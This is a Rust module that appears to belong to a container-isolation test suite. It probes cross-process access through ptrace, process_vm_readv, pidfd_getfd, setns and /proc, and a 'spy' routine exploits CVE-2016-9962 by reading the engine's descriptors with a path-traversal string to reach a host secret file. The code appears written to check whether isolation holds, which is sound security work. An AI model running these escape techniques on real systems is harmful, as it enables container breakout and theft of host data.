//! Other processes: a neighbour's, the host's, and those of the engine while they join.

use std::fs;
use std::io::IoSliceMut;
use std::path::Path;
use std::time::{Duration, Instant};

use nix::sched::{CloneFlags, setns};
use nix::sys::uio::{RemoteIoVec, process_vm_readv};
use nix::unistd::Pid;

use super::sys::{Arg, call};
use super::{DONE, Tried, errno};

/// The attacks of this file.
pub fn attack(name: &str, args: &[&str]) -> Option<Tried> {
    Some(match (name, args) {
        ("ptrace", [pid]) => call(libc::SYS_ptrace, &mut [Arg::Is(0x4206), number(pid)]).map(|_| DONE.into()), // SEIZE
        ("process_vm_readv", [pid]) => memory(pid),
        ("kill", [pid]) => call(libc::SYS_kill, &mut [number(pid), Arg::Is(0)]).map(|_| DONE.into()),
        ("pidfd_getfd", [pid]) => descriptor(pid),
        ("setns", [pid, kind]) => join(pid, kind),
        ("processes", []) => processes(),
        ("spy", [engine, seconds, secret]) => Ok(spy(engine, seconds.parse().expect("a number"), secret)),
        _ => return None,
    })
}

fn number(pid: &str) -> Arg<'static> {
    Arg::Is(pid.parse().expect("a number"))
}

/// Whoever may read gets to hear that nothing is at this address.
fn memory(pid: &str) -> Tried {
    let mut bytes = [0; 8];
    let pid = Pid::from_raw(pid.parse().expect("a number"));
    let read = process_vm_readv(pid, &mut [IoSliceMut::new(&mut bytes)], &[RemoteIoVec { base: 0x10, len: 8 }]);
    read.map(|_| DONE.into())
}

/// Its standard error.
fn descriptor(pid: &str) -> Tried {
    let pidfd = call(libc::SYS_pidfd_open, &mut [number(pid)])?;
    call(libc::SYS_pidfd_getfd, &mut [Arg::Is(pidfd), Arg::Is(2)]).map(|_| DONE.into())
}

fn join(pid: &str, kind: &str) -> Tried {
    let file = fs::File::open(format!("/proc/{pid}/ns/{kind}")).map_err(|error| errno(&error))?;
    setns(file, CloneFlags::empty()).map(|()| DONE.into())
}

/// The programs that can be seen, each once.
fn processes() -> Tried {
    let entries = fs::read_dir("/proc").map_err(|error| errno(&error))?.flatten();
    let mut names: Vec<_> = entries.filter_map(|entry| fs::read_to_string(entry.path().join("comm")).ok()).collect();
    names.sort();
    names.dedup();
    Ok(names.concat().trim().replace('\n', " "))
}

/// Watches for processes that join and are still the engine, as their command line tells, and looks into them
/// (CVE-2016-9962): descriptors, memory, the program's file.
fn spy(engine: &str, seconds: u64, secret: &str) -> String {
    eprintln!("ready");
    let (mut seen, mut taken) = (0, Vec::new());
    let until = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < until {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let process = entry.path();
            if is_engine(&process, engine) {
                seen += 1;
                // What is found counts only if it was the engine's, not the program's that it became.
                let found = look_into(&process, secret);
                if is_engine(&process, engine) {
                    taken.extend(found);
                }
            }
        }
    }
    taken.sort();
    taken.dedup();
    let seen = if seen > 0 { "seen" } else { "nobody" };
    if taken.is_empty() { seen.to_owned() } else { format!("{seen}, taken: {}", taken.join(", ")) }
}

fn is_engine(process: &Path, engine: &str) -> bool {
    let line = fs::read(process.join("cmdline")).unwrap_or_default();
    line.split(|&byte| byte == 0).next().is_some_and(|first| first.ends_with(engine.as_bytes()))
}

fn look_into(process: &Path, secret: &str) -> Vec<String> {
    let mut found = Vec::new();
    for file in ["mem", "exe", "ns/mnt"] {
        if fs::File::open(process.join(file)).is_ok() {
            found.push(file.to_owned());
        }
    }
    for root in ["root".into(), format!("cwd{UP}")] {
        if fs::read(process.join(format!("{root}{secret}"))).is_ok() {
            found.push(format!("THE HOST by its {root}"));
        }
    }
    for entry in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
        let Ok(target) = fs::read_link(entry.path()) else { continue };
        found.push(format!("descriptor of {}", shape(&target)));
        if fs::read(format!("{}{UP}{secret}", entry.path().display())).is_ok() {
            found.push(format!("THE HOST by {}", target.display()));
        }
    }
    found
}

/// From a directory of the host's the way up is open, whatever our root is.
const UP: &str = "/../../../../../../../../../../..";

/// Without numbers, so that each kind is told once.
fn shape(target: &Path) -> String {
    target.display().to_string().chars().filter(|char| !char.is_ascii_digit()).collect()
}
